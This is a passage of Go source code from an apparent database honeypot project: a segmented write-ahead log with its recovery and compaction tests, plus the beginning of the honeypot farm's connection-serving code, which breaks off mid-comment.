	if err := l.writeRecordLocked(head, payload.Comp); err != nil {
		return 0, err
	}
	l.lastSeq = seq
	seg := l.segs[len(l.segs)-1]
	if seg.batches == 0 {
		seg.minSeq = seq
	}
	seg.maxSeq = seq
	seg.batches++
	l.appendedBatches++
	l.appendedEvents += uint64(len(events))
	l.appendLat.Observe(time.Since(began))
	return seq, nil
}

// AppendMark persists a consumer high-water mark: every batch with
// sequence <= seq has been fully consumed (e.g. acked by the
// collector). Replay(Mark()+1, ...) after a restart skips them. Marks
// below the current one are no-ops.
func (l *Log) AppendMark(seq uint64) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.appendMarkLocked(seq)
}

func (l *Log) appendMarkLocked(seq uint64) error {
	if l.closed {
		return ErrClosed
	}
	if seq <= l.mark {
		return nil
	}
	body := wire.NewWriter(9)
	body.Uint8(recMark)
	body.Uint64LE(seq)
	if err := l.writeRecordLocked(body.Bytes()); err != nil {
		return err
	}
	l.mark = seq
	l.marks++
	// A mark means every batch at or below it is consumed; their
	// ownership pins are moot and must not resurface on the next Open.
	for s := range l.owners {
		if s <= seq {
			delete(l.owners, s)
		}
	}
	return nil
}

// AppendOwner persists which consumer endpoint the batch with sequence
// seq is pinned to — for the relay spool, the collector address the
// frame was first written to, so a restarted forwarder retransmits it
// only there. An empty addr releases the pin. The latest record for a
// sequence wins, and pins at or below the consumer mark are no-ops (the
// batch is already consumed). Owners() returns the surviving map after
// recovery.
func (l *Log) AppendOwner(seq uint64, addr string) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return ErrClosed
	}
	if seq <= l.mark {
		return nil
	}
	body := make([]byte, 1, 16+len(addr))
	body[0] = recOwner
	body, err := evcodec.AppendOwner(body, seq, addr)
	if err != nil {
		return fmt.Errorf("wal: %w", err)
	}
	if err := l.writeRecordLocked(body); err != nil {
		return err
	}
	if addr == "" {
		delete(l.owners, seq)
	} else {
		if l.owners == nil {
			l.owners = make(map[uint64]string)
		}
		l.owners[seq] = addr
	}
	l.ownerRecs++
	return nil
}

// Owners returns the surviving ownership pins: for each unconsumed
// batch sequence above the mark with a journaled owner, the endpoint
// address it is pinned to. The map is a copy.
func (l *Log) Owners() map[uint64]string {
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make(map[uint64]string, len(l.owners))
	for s, a := range l.owners {
		out[s] = a
	}
	return out
}

// Mark returns the highest persisted consumer mark.
func (l *Log) Mark() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.mark
}

// LastSeq returns the sequence of the most recently appended (or
// recovered) batch.
func (l *Log) LastSeq() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.lastSeq
}

// Compact records seq as the consumer mark and deletes every sealed
// segment whose batches all have sequence <= seq (and any sealed
// segment holding no batches at all). The active segment is never
// deleted. It returns the number of segments removed.
func (l *Log) Compact(seq uint64) (removed int, err error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return 0, ErrClosed
	}
	if err := l.appendMarkLocked(seq); err != nil {
		return 0, err
	}
	kept := l.segs[:0]
	for i, seg := range l.segs {
		sealed := i < len(l.segs)-1
		if sealed && (seg.batches == 0 || seg.maxSeq <= l.mark) {
			if err := os.Remove(seg.path); err != nil {
				l.noteErrLocked(err)
				kept = append(kept, seg)
				continue
			}
			removed++
			l.compacted++
			l.compactedBytes += uint64(seg.size)
			l.logf("wal: compacted %s (%d batches, seq<=%d)", filepath.Base(seg.path), seg.batches, l.mark)
			continue
		}
		kept = append(kept, seg)
	}
	l.segs = kept
	return removed, nil
}

// CompactBefore is the age-based retention policy: it deletes every
// sealed segment whose last write predates cutoff — a segment is known
// to be that old when its successor segment was created before cutoff.
// Unlike Compact, which removes only consumer-acknowledged batches,
// this is deliberate data expiry: it records the highest removed
// sequence as the consumer mark so Replay's contract stays consistent,
// then deletes the segments. The active segment is never deleted. It
// returns the number of segments removed.
func (l *Log) CompactBefore(cutoff time.Time) (removed int, err error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return 0, ErrClosed
	}
	// Find the expiry frontier: the highest batch sequence inside the
	// expired prefix. Segments age in creation order, so the scan stops
	// at the first one still inside the retention window.
	var upTo uint64
	expired := 0
	for i, seg := range l.segs {
		if i == len(l.segs)-1 || !l.segs[i+1].created.Before(cutoff) {
			break
		}
		expired++
		if seg.maxSeq > upTo {
			upTo = seg.maxSeq
		}
	}
	if expired == 0 {
		return 0, nil
	}
	if upTo > l.mark {
		if err := l.appendMarkLocked(upTo); err != nil {
			return 0, err
		}
	}
	kept := l.segs[:0]
	for i, seg := range l.segs {
		if i < expired {
			if err := os.Remove(seg.path); err != nil {
				l.noteErrLocked(err)
				kept = append(kept, seg)
				continue
			}
			removed++
			l.compacted++
			l.compactedBytes += uint64(seg.size)
			l.logf("wal: expired %s (%d batches, sealed before %s)",
				filepath.Base(seg.path), seg.batches, cutoff.Format(time.RFC3339))
			continue
		}
		kept = append(kept, seg)
	}
	l.segs = kept
	return removed, nil
}

// Sync forces unsynced appends to stable storage.
func (l *Log) Sync() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.syncLocked()
}

func (l *Log) syncLocked() error {
	if l.closed || !l.dirty {
		return nil
	}
	if err := l.active.Sync(); err != nil {
		l.noteErrLocked(err)
		return fmt.Errorf("wal: fsync: %w", err)
	}
	l.dirty = false
	l.syncs++
	return nil
}

// syncLoop is the SyncInterval background fsyncer.
func (l *Log) syncLoop() {
	defer l.wg.Done()
	t := time.NewTicker(l.opts.SyncEvery)
	defer t.Stop()
	for {
		select {
		case <-l.stopCh:
			return
		case <-t.C:
			if err := l.Sync(); err != nil {
				l.logf("%v", err)
			}
		}
	}
}

// Close syncs and closes the log. Further operations return ErrClosed.
// It returns the first non-recoverable error observed over the log's
// lifetime (nil if none).
func (l *Log) Close() error {
	l.mu.Lock()
	if l.closed {
		err := l.firstErr
		l.mu.Unlock()
		return err
	}
	_ = l.syncLocked()
	l.closed = true
	close(l.stopCh)
	f := l.active
	l.active = nil
	l.mu.Unlock()
	l.wg.Wait()
	if f != nil {
		if err := f.Close(); err != nil {
			l.noteErr(err)
		}
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.firstErr
}

// Err returns the first non-recoverable error observed so far.
func (l *Log) Err() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.firstErr
}

func (l *Log) noteErr(err error) {
	l.mu.Lock()
	l.noteErrLocked(err)
	l.mu.Unlock()
}

func (l *Log) noteErrLocked(err error) {
	if l.firstErr == nil {
		l.firstErr = err
	}
}

func (l *Log) logf(format string, args ...any) {
	if l.opts.Logf != nil {
		l.opts.Logf(format, args...)
	}
}

// recovery accounts what Open found — and what it had to discard.
type recovery struct {
	Batches     uint64 // valid batch records found
	Events      uint64 // events inside them
	Marks       uint64 // valid mark records found
	Owners      uint64 // valid ownership records found
	TornBytes   uint64 // bytes truncated after the last valid record
	Truncations uint64 // segments that lost a tail
}

// Stats is a point-in-time snapshot of log counters.
type Stats struct {
	Dir         string
	Segments    int    // segment files currently on disk
	LastSeq     uint64 // highest batch sequence, appended or recovered
	Mark        uint64 // highest consumer mark
	ActiveBytes int64  // size of the active segment

	AppendedBatches uint64
	AppendedEvents  uint64
	AppendedBytes   uint64
	Marks           uint64 // mark records appended this process
	OwnerRecords    uint64 // ownership records appended this process
	Syncs           uint64
	Rotations       uint64
	Compacted       uint64 // segments deleted by Compact/CompactBefore
	CompactedBytes  uint64 // bytes those segments occupied on disk

	// AppendLatency is the distribution of Append call durations
	// (compression included), observed under the log mutex.
	AppendLatency core.DurationHist

	// Recovered is what Open found on disk, including the loss account:
	// TornBytes/Truncations are the torn tails cut at the last valid
	// record.
	Recovered recovery
}

// String renders the snapshot as one operational log line.
func (s Stats) String() string {
	line := fmt.Sprintf("wal[%s]: seq=%d mark=%d segs=%d appended=%dev/%dfr bytes=%d syncs=%d",
		filepath.Base(s.Dir), s.LastSeq, s.Mark, s.Segments,
		s.AppendedEvents, s.AppendedBatches, s.AppendedBytes, s.Syncs)
	if s.Recovered.Batches > 0 || s.Recovered.TornBytes > 0 {
		line += fmt.Sprintf(" recovered=%dev/%dfr", s.Recovered.Events, s.Recovered.Batches)
	}
	if s.Recovered.TornBytes > 0 {
		line += fmt.Sprintf(" torn=%dB/%dsegs", s.Recovered.TornBytes, s.Recovered.Truncations)
	}
	return line
}

// Stats snapshots the counters. Safe to call concurrently with appends.
func (l *Log) Stats() Stats {
	l.mu.Lock()
	defer l.mu.Unlock()
	st := Stats{
		Dir: l.opts.Dir, Segments: len(l.segs),
		LastSeq: l.lastSeq, Mark: l.mark,
		AppendedBatches: l.appendedBatches,
		AppendedEvents:  l.appendedEvents,
		AppendedBytes:   l.appendedBytes,
		Marks:           l.marks,
		OwnerRecords:    l.ownerRecs,
		Syncs:           l.syncs,
		Rotations:       l.rotations,
		Compacted:       l.compacted,
		CompactedBytes:  l.compactedBytes,
		AppendLatency:   l.appendLat,
		Recovered:       l.recovered,
	}
	if n := len(l.segs); n > 0 {
		st.ActiveBytes = l.segs[n-1].size
	}
	return st
}

// sortSegs orders the in-memory segment index by file number.
func sortSegs(segs []*segment) {
	sort.Slice(segs, func(i, j int) bool { return segs[i].index < segs[j].index })
}
