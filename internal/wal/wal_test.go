package wal

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"testing"
	"time"

	"decoydb/internal/core"
)

func testEvent(i int) core.Event {
	return core.Event{
		Time: time.Unix(1700000000+int64(i), int64(i)*1001).UTC(),
		Src:  netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, byte(i >> 8), byte(i)}), uint16(40000+i%1000)),
		Honeypot: core.Info{
			DBMS: core.MySQL, Level: core.Low, Port: 3306,
			Instance: i % 7, Config: core.ConfigDefault, Group: core.GroupMulti,
			VM: "vm-1", Region: "eu",
		},
		Kind:    core.EventLogin,
		User:    fmt.Sprintf("user%d", i),
		Pass:    fmt.Sprintf("pass%d", i),
		OK:      i%3 == 0,
		Command: "SHOW DATABASES",
		Raw:     "\x16\x03\x01 raw bytes",
	}
}

func testEvents(n int) []core.Event {
	evs := make([]core.Event, n)
	for i := range evs {
		evs[i] = testEvent(i)
	}
	return evs
}

// mustOpen opens a log and fails the test on error.
func mustOpen(t *testing.T, opts Options) *Log {
	t.Helper()
	l, err := Open(opts)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	return l
}

// replayAll collects every batch the log replays from seq `from`.
type replayed struct {
	seq    uint64
	tag    []byte
	events []core.Event
}

func replayAll(t *testing.T, l *Log, from uint64) []replayed {
	t.Helper()
	var out []replayed
	err := l.Replay(from, func(seq uint64, tag []byte, events []core.Event) error {
		out = append(out, replayed{
			seq:    seq,
			tag:    append([]byte(nil), tag...),
			events: append([]core.Event(nil), events...),
		})
		return nil
	})
	if err != nil {
		t.Fatalf("Replay: %v", err)
	}
	return out
}

func TestAppendReopenReplay(t *testing.T) {
	dir := t.TempDir()
	l := mustOpen(t, Options{Dir: dir, Sync: SyncBatch})

	var want []replayed
	for i := 0; i < 10; i++ {
		evs := testEvents(3 + i%5)
		tag := []byte(fmt.Sprintf("tag-%d", i))
		if i%2 == 0 {
			tag = nil
		}
		seq, err := l.Append(evs, tag)
		if err != nil {
			t.Fatalf("Append %d: %v", i, err)
		}
		if seq != uint64(i+1) {
			t.Fatalf("Append %d: seq = %d, want %d", i, seq, i+1)
		}
		want = append(want, replayed{seq: seq, tag: tag, events: evs})
	}
	if err := l.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	l = mustOpen(t, Options{Dir: dir})
	defer l.Close()
	if got := l.LastSeq(); got != 10 {
		t.Fatalf("LastSeq after reopen = %d, want 10", got)
	}
	st := l.Stats()
	if st.Recovered.Batches != 10 || st.Recovered.TornBytes != 0 {
		t.Fatalf("recovered = %+v, want 10 batches, 0 torn", st.Recovered)
	}
	got := replayAll(t, l, 1)
	if len(got) != len(want) {
		t.Fatalf("replayed %d batches, want %d", len(got), len(want))
	}
	for i, g := range got {
		w := want[i]
		if g.seq != w.seq {
			t.Fatalf("batch %d: seq = %d, want %d", i, g.seq, w.seq)
		}
		if string(g.tag) != string(w.tag) {
			t.Fatalf("batch %d: tag = %q, want %q", i, g.tag, w.tag)
		}
		if len(g.events) != len(w.events) {
			t.Fatalf("batch %d: %d events, want %d", i, len(g.events), len(w.events))
		}
		for j := range g.events {
			if g.events[j] != w.events[j] {
				t.Fatalf("batch %d event %d:\n got %+v\nwant %+v", i, j, g.events[j], w.events[j])
			}
		}
	}
	// Replay from the middle skips the prefix.
	if mid := replayAll(t, l, 6); len(mid) != 5 {
		t.Fatalf("Replay(6) = %d batches, want 5", len(mid))
	} else if mid[0].seq != 6 {
		t.Fatalf("Replay(6) starts at seq %d, want 6", mid[0].seq)
	}
}

func TestEmptyAppendIsNoop(t *testing.T) {
	l := mustOpen(t, Options{Dir: t.TempDir()})
	defer l.Close()
	seq, err := l.Append(nil, nil)
	if err != nil || seq != 0 {
		t.Fatalf("Append(nil) = (%d, %v), want (0, nil)", seq, err)
	}
	if st := l.Stats(); st.AppendedBatches != 0 {
		t.Fatalf("empty append was persisted: %+v", st)
	}
}

func TestTagLimit(t *testing.T) {
	l := mustOpen(t, Options{Dir: t.TempDir()})
	defer l.Close()
	if _, err := l.Append(testEvents(1), make([]byte, MaxTag+1)); err == nil {
		t.Fatal("oversized tag accepted")
	}
	if _, err := l.Append(testEvents(1), make([]byte, MaxTag)); err != nil {
		t.Fatalf("max-size tag rejected: %v", err)
	}
}

// TestTornTailEveryOffset is the core durability claim: truncate the
// segment at EVERY byte offset and prove that reopening recovers
// exactly the batches whose records lie wholly inside the prefix, with
// the discarded bytes accounted — never a panic, never a silent loss,
// never a half-parsed batch.
func TestTornTailEveryOffset(t *testing.T) {
	// Build a reference segment with SyncBatch so the file is complete.
	refDir := t.TempDir()
	l := mustOpen(t, Options{Dir: refDir, Sync: SyncBatch})
	const batches = 6
	ends := []int64{headerSize} // file offset after header and after each record
	for i := 0; i < batches; i++ {
		if _, err := l.Append(testEvents(2+i), []byte{byte(i)}); err != nil {
			t.Fatalf("Append: %v", err)
		}
		ends = append(ends, l.Stats().ActiveBytes)
	}
	if err := l.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	ref, err := os.ReadFile(filepath.Join(refDir, segName(1)))
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(ref)) != ends[len(ends)-1] {
		t.Fatalf("segment is %d bytes, stats said %d", len(ref), ends[len(ends)-1])
	}

	// complete(cut) = number of records wholly inside a cut-byte prefix.
	complete := func(cut int64) int {
		n := 0
		for _, e := range ends[1:] {
			if e <= cut {
				n++
			}
		}
		return n
	}

	for cut := int64(0); cut <= int64(len(ref)); cut++ {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, segName(1)), ref[:cut], 0o644); err != nil {
			t.Fatal(err)
		}
		l, err := Open(Options{Dir: dir})
		if err != nil {
			t.Fatalf("cut=%d: Open: %v", cut, err)
		}
		wantBatches := complete(cut)
		st := l.Stats()
		if int(st.Recovered.Batches) != wantBatches {
			t.Fatalf("cut=%d: recovered %d batches, want %d", cut, st.Recovered.Batches, wantBatches)
		}
		if st.LastSeq != uint64(wantBatches) {
			t.Fatalf("cut=%d: LastSeq = %d, want %d", cut, st.LastSeq, wantBatches)
		}
		// Every byte past the last complete record is accounted loss.
		wantValid := ends[wantBatches]
		if cut < headerSize {
			wantValid = headerSize // header was rebuilt; whole stub was loss
			if int64(st.Recovered.TornBytes) != cut {
				t.Fatalf("cut=%d: torn = %d bytes, want %d", cut, st.Recovered.TornBytes, cut)
			}
		} else if int64(st.Recovered.TornBytes) != cut-wantValid {
			t.Fatalf("cut=%d: torn = %d bytes, want %d", cut, st.Recovered.TornBytes, cut-wantValid)
		}
		wantTrunc := uint64(0)
		if (cut > 0 && cut < headerSize) || (cut >= headerSize && cut != wantValid) {
			wantTrunc = 1
		}
		if st.Recovered.Truncations != wantTrunc {
			t.Fatalf("cut=%d: truncations = %d, want %d", cut, st.Recovered.Truncations, wantTrunc)
		}
		if got := replayAll(t, l, 1); len(got) != wantBatches {
			t.Fatalf("cut=%d: replayed %d batches, want %d", cut, len(got), wantBatches)
		}
		// The log must be appendable after recovery, and a second reopen
		// must be clean (the tail was physically truncated).
		if _, err := l.Append(testEvents(1), nil); err != nil {
			t.Fatalf("cut=%d: append after recovery: %v", cut, err)
		}
		if err := l.Close(); err != nil {
			t.Fatalf("cut=%d: Close: %v", cut, err)
		}
		l2, err := Open(Options{Dir: dir})
		if err != nil {
			t.Fatalf("cut=%d: reopen: %v", cut, err)
		}
		if st2 := l2.Stats(); st2.Recovered.TornBytes != 0 {
			t.Fatalf("cut=%d: second open found torn bytes: %+v", cut, st2.Recovered)
		}
		if got := l2.LastSeq(); got != uint64(wantBatches)+1 {
			t.Fatalf("cut=%d: LastSeq after append+reopen = %d, want %d", cut, got, wantBatches+1)
		}
		l2.Close()
	}
}

// TestBitFlipTruncates proves the record CRC catches payload corruption
// that leaves lengths intact: flipping one byte anywhere inside a
// record's extent invalidates that record and everything after it.
func TestBitFlipTruncates(t *testing.T) {
	dir := t.TempDir()
	l := mustOpen(t, Options{Dir: dir, Sync: SyncBatch})
	for i := 0; i < 4; i++ {
		if _, err := l.Append(testEvents(4), nil); err != nil {
			t.Fatal(err)
		}
	}
	recEnds := []int64{headerSize}
	l.Close()
	path := filepath.Join(dir, segName(1))
	ref, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	// Reconstruct record boundaries from the length prefixes.
	for off := int64(headerSize); off < int64(len(ref)); {
		n := int64(uint32(ref[off])<<24 | uint32(ref[off+1])<<16 | uint32(ref[off+2])<<8 | uint32(ref[off+3]))
		off += 4 + n
		recEnds = append(recEnds, off)
	}
	if len(recEnds) != 5 {
		t.Fatalf("expected 4 records, boundaries %v", recEnds)
	}

	// Flip a byte inside record 2 (index 1): body byte, not its length
	// prefix, so the frame still reads but the CRC must catch it.
	for _, flip := range []int64{recEnds[1] + 6, (recEnds[1] + recEnds[2]) / 2, recEnds[2] - 1} {
		mut := append([]byte(nil), ref...)
		mut[flip] ^= 0x40
		if err := os.WriteFile(path, mut, 0o644); err != nil {
			t.Fatal(err)
		}
		l, err := Open(Options{Dir: dir})
		if err != nil {
			t.Fatalf("flip@%d: Open: %v", flip, err)
		}
		st := l.Stats()
		if st.Recovered.Batches != 1 || st.LastSeq != 1 {
			t.Fatalf("flip@%d: recovered %d batches (seq %d), want 1", flip, st.Recovered.Batches, st.LastSeq)
		}
		if st.Recovered.TornBytes != uint64(int64(len(ref))-recEnds[1]) {
			t.Fatalf("flip@%d: torn = %d, want %d", flip, st.Recovered.TornBytes, int64(len(ref))-recEnds[1])
		}
		l.Close()
	}
}

func TestRotationAndCompact(t *testing.T) {
	dir := t.TempDir()
	// Tiny segments: every batch rotates.
	l := mustOpen(t, Options{Dir: dir, SegmentBytes: 256, Sync: SyncBatch})
	for i := 0; i < 8; i++ {
		if _, err := l.Append(testEvents(8), nil); err != nil {
			t.Fatal(err)
		}
	}
	st := l.Stats()
	if st.Segments < 4 {
		t.Fatalf("expected rotation, got %d segments", st.Segments)
	}

	// Compact below the mark: sealed segments holding only seq <= 5 go.
	removed, err := l.Compact(5)
	if err != nil {
		t.Fatalf("Compact: %v", err)
	}
	if removed == 0 {
		t.Fatal("Compact removed nothing")
	}
	if got := l.Mark(); got != 5 {
		t.Fatalf("Mark = %d, want 5", got)
	}
	// Everything past the mark must still replay.
	got := replayAll(t, l, 6)
	if len(got) != 3 {
		t.Fatalf("after compact: replayed %d batches, want 3", len(got))
	}
	if got[0].seq != 6 {
		t.Fatalf("after compact: replay starts at seq %d, want 6", got[0].seq)
	}
	l.Close()

	// Reopen: mark and remaining batches survive.
	l = mustOpen(t, Options{Dir: dir})
	defer l.Close()
	if got := l.Mark(); got != 5 {
		t.Fatalf("Mark after reopen = %d, want 5", got)
	}
	if got := l.LastSeq(); got != 8 {
		t.Fatalf("LastSeq after reopen = %d, want 8", got)
	}
	if got := replayAll(t, l, l.Mark()+1); len(got) != 3 {
		t.Fatalf("replayed %d unmarked batches, want 3", len(got))
	}
}

// TestSeqSurvivesFullCompaction: when every batch has been compacted
// away, the sequence space must still continue after reopen (the header
// base anchors it) — a durable forwarder reusing sequence numbers would
// be silently deduped by the collector.
func TestSeqSurvivesFullCompaction(t *testing.T) {
	dir := t.TempDir()
	l := mustOpen(t, Options{Dir: dir, SegmentBytes: 256, Sync: SyncBatch})
	for i := 0; i < 5; i++ {
		if _, err := l.Append(testEvents(8), nil); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := l.Compact(5); err != nil {
		t.Fatal(err)
	}
	l.Close()

	l = mustOpen(t, Options{Dir: dir})
	defer l.Close()
	if got := l.LastSeq(); got != 5 {
		t.Fatalf("LastSeq after full compaction + reopen = %d, want 5", got)
	}
	seq, err := l.Append(testEvents(1), nil)
	if err != nil || seq != 6 {
		t.Fatalf("next Append = (%d, %v), want (6, nil)", seq, err)
	}
}

func TestSegmentAgeRotation(t *testing.T) {
	dir := t.TempDir()
	l := mustOpen(t, Options{Dir: dir, SegmentAge: time.Millisecond, Sync: SyncBatch})
	defer l.Close()
	if _, err := l.Append(testEvents(1), nil); err != nil {
		t.Fatal(err)
	}
	time.Sleep(5 * time.Millisecond)
	if _, err := l.Append(testEvents(1), nil); err != nil {
		t.Fatal(err)
	}
	if st := l.Stats(); st.Segments != 2 || st.Rotations != 1 {
		t.Fatalf("age rotation: %d segments, %d rotations, want 2/1", st.Segments, st.Rotations)
	}
}

func TestClosedLog(t *testing.T) {
	l := mustOpen(t, Options{Dir: t.TempDir()})
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := l.Append(testEvents(1), nil); err != ErrClosed {
		t.Fatalf("Append after close = %v, want ErrClosed", err)
	}
	if err := l.AppendMark(1); err != ErrClosed {
		t.Fatalf("AppendMark after close = %v, want ErrClosed", err)
	}
	if _, err := l.Compact(1); err != ErrClosed {
		t.Fatalf("Compact after close = %v, want ErrClosed", err)
	}
	if err := l.Close(); err != nil {
		t.Fatalf("double Close = %v", err)
	}
}

func TestSyncIntervalFlushes(t *testing.T) {
	dir := t.TempDir()
	l := mustOpen(t, Options{Dir: dir, Sync: SyncInterval, SyncEvery: 5 * time.Millisecond})
	defer l.Close()
	if _, err := l.Append(testEvents(1), nil); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(2 * time.Second)
	for l.Stats().Syncs == 0 {
		if time.Now().After(deadline) {
			t.Fatal("background sync never ran")
		}
		time.Sleep(time.Millisecond)
	}
}

// TestConcurrentAppend exercises the lock paths under -race.
func TestConcurrentAppend(t *testing.T) {
	l := mustOpen(t, Options{Dir: t.TempDir(), SegmentBytes: 4096})
	defer l.Close()
	done := make(chan error, 4)
	for g := 0; g < 4; g++ {
		go func() {
			for i := 0; i < 50; i++ {
				if _, err := l.Append(testEvents(3), nil); err != nil {
					done <- err
					return
				}
				if i%10 == 0 {
					_ = l.Sync()
				}
			}
			done <- nil
		}()
	}
	for g := 0; g < 4; g++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
	if got := l.LastSeq(); got != 200 {
		t.Fatalf("LastSeq = %d, want 200", got)
	}
	n := 0
	if err := l.Replay(1, func(_ uint64, _ []byte, evs []core.Event) error {
		n += len(evs)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if n != 600 {
		t.Fatalf("replayed %d events, want 600", n)
	}
}

func TestForeignFilesIgnored(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "README"), []byte("not a segment"), 0o644); err != nil {
		t.Fatal(err)
	}
	l := mustOpen(t, Options{Dir: dir})
	defer l.Close()
	if _, err := l.Append(testEvents(1), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, "README")); err != nil {
		t.Fatalf("foreign file touched: %v", err)
	}
}

func BenchmarkWALAppend(b *testing.B) {
	for _, pol := range []SyncPolicy{SyncOff, SyncInterval, SyncBatch} {
		b.Run("fsync="+pol.String(), func(b *testing.B) {
			l, err := Open(Options{Dir: b.TempDir(), Sync: pol})
			if err != nil {
				b.Fatal(err)
			}
			defer l.Close()
			evs := testEvents(256)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := l.Append(evs, nil); err != nil {
					b.Fatal(err)
				}
			}
			b.StopTimer()
			b.ReportMetric(float64(b.N)*256/b.Elapsed().Seconds(), "events/s")
		})
	}
}

func BenchmarkWALRecover(b *testing.B) {
	dir := b.TempDir()
	l, err := Open(Options{Dir: dir, Sync: SyncOff})
	if err != nil {
		b.Fatal(err)
	}
	evs := testEvents(256)
	const batches = 400 // ~100k events on disk
	for i := 0; i < batches; i++ {
		if _, err := l.Append(evs, nil); err != nil {
			b.Fatal(err)
		}
	}
	if err := l.Close(); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		l, err := Open(Options{Dir: dir})
		if err != nil {
			b.Fatal(err)
		}
		if l.LastSeq() != batches {
			b.Fatalf("recovered seq %d", l.LastSeq())
		}
		b.StopTimer()
		l.Close()
		b.StartTimer()
	}
	b.ReportMetric(float64(b.N)*batches*256/b.Elapsed().Seconds(), "events/s")
}
