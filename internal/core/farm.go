package core

import (
	"context"
	"errors"
	"fmt"
	"log"
	"net"
	"net/netip"
	"sync"
	"time"
)

func timeOf(unixNano int64) time.Time { return time.Unix(0, unixNano).UTC() }

// Handler is implemented by each protocol honeypot. Handle owns conn for
// the lifetime of the session and must tolerate arbitrary hostile input:
// returning an error is fine, panicking is not (the Farm still recovers,
// but a panic indicates a parsing bug).
//
// Handle must call s.Connect() when it starts servicing the connection and
// s.Close() before returning; ServeConn enforces the Close.
type Handler interface {
	Handle(ctx context.Context, conn net.Conn, s *Session) error
}

// HandlerFunc adapts a function to the Handler interface.
type HandlerFunc func(ctx context.Context, conn net.Conn, s *Session) error

// Handle implements Handler.
func (f HandlerFunc) Handle(ctx context.Context, conn net.Conn, s *Session) error {
	return f(ctx, conn, s)
}

// Honeypot pairs an instance identity with its protocol handler.
type Honeypot struct {
	Info    Info
	Handler Handler
}

// FarmOptions tune live serving behaviour.
type FarmOptions struct {
	// SessionTimeout caps how long one client connection may live.
	// Zero means DefaultSessionTimeout.
	SessionTimeout time.Duration
	// MaxConns caps concurrently served connections across the farm.
	// Zero means DefaultMaxConns.
	MaxConns int
	// Logf, when non-nil, receives operational diagnostics.
	Logf func(format string, args ...any)
}

// Defaults for FarmOptions.
const (
	DefaultSessionTimeout = 5 * time.Minute
	DefaultMaxConns       = 1024
)

// Farm serves a set of honeypots on live listeners. It recovers per-session
// panics, enforces session deadlines, and bounds concurrency, since every
// byte it reads comes from the open Internet.
type Farm struct {
	clock Clock
	sink  Sink
	opts  FarmOptions
	sem   chan struct{}

	mu        sync.Mutex
	listeners []net.Listener
	shutdown  bool
	wg        sync.WaitGroup
}

// ErrFarmClosed is returned by Listen after Shutdown.
var ErrFarmClosed = errors.New("farm: shut down")

// NewFarm creates a Farm stamping events with clock and forwarding them to
// sink.
func NewFarm(clock Clock, sink Sink, opts FarmOptions) *Farm {
	if opts.SessionTimeout <= 0 {
		opts.SessionTimeout = DefaultSessionTimeout
	}
	if opts.MaxConns <= 0 {
		opts.MaxConns = DefaultMaxConns
	}
	if opts.Logf == nil {
		opts.Logf = log.Printf
	}
	return &Farm{
		clock: clock,
		sink:  sink,
		opts:  opts,
		sem:   make(chan struct{}, opts.MaxConns),
	}
}

// Listen starts serving hp on addr (e.g. "0.0.0.0:6379") and returns the
// bound address, which is useful with port 0 in tests.
func (f *Farm) Listen(ctx context.Context, addr string, hp *Honeypot) (net.Addr, error) {
	f.mu.Lock()
	if f.shutdown {
		f.mu.Unlock()
		return nil, fmt.Errorf("farm: listen %s for %s: %w", addr, hp.Info.ID(), ErrFarmClosed)
	}
	f.mu.Unlock()
	var lc net.ListenConfig
	ln, err := lc.Listen(ctx, "tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("farm: listen %s for %s: %w", addr, hp.Info.ID(), err)
	}
	f.mu.Lock()
	if f.shutdown {
		// Shutdown raced us between the check and the bind; a listener
		// registered now would never be closed. Refuse instead.
		f.mu.Unlock()
		ln.Close()
		return nil, fmt.Errorf("farm: listen %s for %s: %w", addr, hp.Info.ID(), ErrFarmClosed)
	}
	f.listeners = append(f.listeners, ln)
	f.mu.Unlock()

	f.wg.Add(1)
	go func() {
		defer f.wg.Done()
		f.acceptLoop(ctx, ln, hp)
	}()
	return ln.Addr(), nil
}

func (f *Farm) acceptLoop(ctx context.Context, ln net.Listener, hp *Honeypot) {
	for {
		conn, err := ln.Accept()
		if err != nil {
			if ctx.Err() != nil || errors.Is(err, net.ErrClosed) {
				return
			}
			f.opts.Logf("farm: accept on %s: %v", ln.Addr(), err)
			continue
		}
		select {
		case f.sem <- struct{}{}:
		case <-ctx.Done():
			conn.Close()
			return
		}
		f.wg.Add(1)
		go func() {
			defer f.wg.Done()
			defer func() { <-f.sem }()
			f.serve(ctx, conn, hp)
		}()
	}
}

func (f *Farm) serve(ctx context.Context, conn net.Conn, hp *Honeypot) {
	deadline := f.clock.Now().Add(f.opts.SessionTimeout)
	_ = conn.SetDeadline(deadline)
	src := remoteAddrPort(conn)
	s := NewSession(hp.Info, src, f.clock, f.sink)
	if err := ServeConn(ctx, hp.Handler, conn, s); err != nil {
		f.opts.Logf("farm: session %s from %s: %v", hp.Info.ID(), src, err)
	}
}

// ServeConn runs one handler over one connection with panic recovery and
// guaranteed session close + connection close. It is the single entry
